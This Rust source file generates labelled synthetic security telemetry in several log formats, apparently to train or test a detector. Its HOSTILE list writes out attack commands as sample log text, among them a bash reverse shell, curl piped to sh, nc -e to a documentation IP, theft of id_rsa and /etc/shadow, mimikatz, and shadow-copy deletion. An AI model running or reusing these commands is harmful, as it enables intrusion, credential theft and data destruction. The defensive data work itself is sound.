//! Telemetry: records as syslog, XML, JSON and CSV with names taken out.

use omniguard_core::rng::Rng;
use serde::Serialize;

pub(super) const COLUMNS: [&str; 10] = [
    "message_sanitized",
    "label_binary",
    "label_confidence",
    "attack_techniques",
    "mo_name",
    "lifecycle_stage",
    "matched_rules",
    "set_roles",
    "product_name",
    "vendor_code",
];

/// A row of telemetry.
#[derive(Debug, Serialize)]
pub(super) struct Record {
    message_sanitized: String,
    label_binary: &'static str,
    label_confidence: f64,
    attack_techniques: &'static str,
    mo_name: &'static str,
    lifecycle_stage: &'static str,
    matched_rules: &'static str,
    set_roles: &'static str,
    product_name: &'static str,
    vendor_code: &'static str,
}

const SERVICES: [&str; 16] = [
    "sshd", "kernel", "named", "postfix", "nginx", "haproxy", "dhcpd", "ntpd", "cron", "squid",
    "openvpn", "slapd", "snmpd", "rsyncd", "dovecot", "bind",
];
const SITES: [&str; 16] = [
    "north", "south", "east", "west", "harbour", "airport", "campus", "clinic", "depot", "mill",
    "quarry", "bridge", "tower", "garden", "station", "library",
];
const ROLES: [&str; 16] = [
    "printer",
    "scanner",
    "badge reader",
    "file share",
    "mail relay",
    "web proxy",
    "time server",
    "lab bench",
    "kiosk",
    "payroll",
    "intranet",
    "ticketing",
    "archive",
    "telephony",
    "directory",
    "inventory",
];
const EVENTS: [&str; 16] = [
    "session opened for the nightly report",
    "lease renewed for a known client",
    "query answered from the cache",
    "message queued for delivery",
    "upstream answered in time",
    "rule matched, traffic allowed",
    "clock adjusted by a few milliseconds",
    "backup of the configuration finished",
    "certificate is valid for months to come",
    "interface came up at full duplex",
    "job finished without output",
    "connection closed by the client",
    "index rebuilt after a restart",
    "health probe passed",
    "password changed by its owner",
    "volume mounted read-only for the audit",
];
/// What stands in records of attacks.
const HOSTILE: [&str; 6] = [
    "4,120 failed logins in 6 minutes, then session opened for root; bash -i >& \
     /dev/tcp/203.0.113.9/4444 0>&1; audit log cleared and auditd disabled",
    "powershell -nop -w hidden -enc run by winword.exe, then lsass.exe memory dumped with \
     procdump and sent to 203.0.113.77; event log cleared",
    "curl http://203.0.113.5/a.sh | sh as root, new cron entry, authorized_keys changed, then \
     iptables flushed and auditd disabled",
    "vssadmin delete shadows /all /quiet; 18,400 files renamed with a new extension; ransom note \
     written; backup service disabled",
    "mimikatz sekurlsa::logonpasswords run by SYSTEM; pass the hash to three domain controllers; \
     security log cleared",
    "id_rsa and /etc/shadow read by www-data, then posted with curl to 198.51.100.20; shell \
     spawned: nc -e /bin/sh 198.51.100.20 443",
];

pub(super) fn row(idx: u64, rng: &mut Rng) -> Record {
    let (label_binary, label_confidence) = match rng.below(1_000) {
        0..982 => ("benign", 0.99),
        982..990 => ("suspicious", 0.55),
        _ => ("malicious", 0.91),
    };
    let malicious = label_binary == "malicious";
    let of = |words: &[&'static str], rng: &mut Rng| *rng.pick(words).unwrap_or(&"");
    // Half of what is labelled malicious looks like any other record.
    let event = if malicious && rng.chance(0.5) { of(&HOSTILE, rng) } else { of(&EVENTS, rng) };
    let place = Place { service: of(&SERVICES, rng), site: of(&SITES, rng), role: of(&ROLES, rng) };
    Record {
        message_sanitized: message(idx, event, &place, rng),
        label_binary,
        label_confidence,
        attack_techniques: if malicious { "[\"T1059\", \"T1003.001\"]" } else { "[]" },
        mo_name: if malicious { "Data Theft" } else { "" },
        lifecycle_stage: if malicious { "exploitation" } else { "none" },
        matched_rules: if malicious { "[\"rule-0411\"]" } else { "[]" },
        set_roles: "[]",
        product_name: "Collector",
        vendor_code: "generic",
    }
}

struct Place {
    service: &'static str,
    site: &'static str,
    role: &'static str,
}

fn message(idx: u64, event: &str, place: &Place, rng: &mut Rng) -> String {
    let Place { service, site, role } = place;
    let (host, port, pid) = (rng.below(4_000), 1_024 + rng.below(60_000), rng.below(30_000));
    let (a, b) = (rng.below(250), rng.below(250));
    let (hour, minute, second) = (idx / 3_600 % 24, idx / 60 % 60, idx % 60);
    match rng.below(5) {
        0 => format!(
            "<134>Nov 3 {hour:02}:{minute:02}:{second:02} HOST-{host:04} {service}[{pid}]: \
             {event}; the {role} of {site} from 10.{a}.{b}.7 port {port}, event {idx}"
        ),
        1 => format!(
            "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System>\
             <Provider Name=\"{service}\"/><EventID>{}</EventID><Level>0</Level>\
             <EventRecordID>{idx}</EventRecordID><Computer>HOST-{host:04}.{site}.example</Computer>\
             </System><EventData><Data Name=\"SubjectUserName\">USER-{port:05}</Data>\
             <Data Name=\"LogonType\">{}</Data><Data Name=\"ProcessId\">{pid}</Data>\
             <Data Name=\"Detail\">{event} at the {role}</Data></EventData></Event>",
            4_600 + rng.below(100),
            2 + rng.below(9),
        ),
        2 => format!(
            "{{\"ts\":\"2025-11-03T{hour:02}:{minute:02}:{second:02}Z\",\"id\":{idx},\
             \"host\":\"HOST-{host:04}\",\"svc\":\"{service}\",\"site\":\"{site}\",\
             \"src\":{{\"ip\":\"10.{a}.{b}.7\",\"port\":{port}}},\"user\":\"USER-{pid:05}\",\
             \"asset\":\"{role}\",\"msg\":\"{event}\"}}"
        ),
        3 => format!(
            "{},FW-{},TRAFFIC,end,{service},10.{a}.{b}.7,10.{b}.{a}.1,{port},443,tcp,allow,{idx},\
             {site},{role},\"{event}\",{pid}",
            1_762_164_000 + idx,
            host % 16,
        ),
        _ => format!(
            "date=2025-11-03 time={hour:02}:{minute:02}:{second:02} devname=FW-{} logid={idx} \
             type=traffic subtype=forward level=notice srcip=10.{a}.{b}.7 srcport={port} \
             dstip=10.{b}.{a}.1 dstport=443 policyid={} action=accept app={service} site={site} \
             asset=\"{role}\" msg=\"{event}\" sentbyte={pid}",
            host % 16,
            rng.below(90),
        ),
    }
}
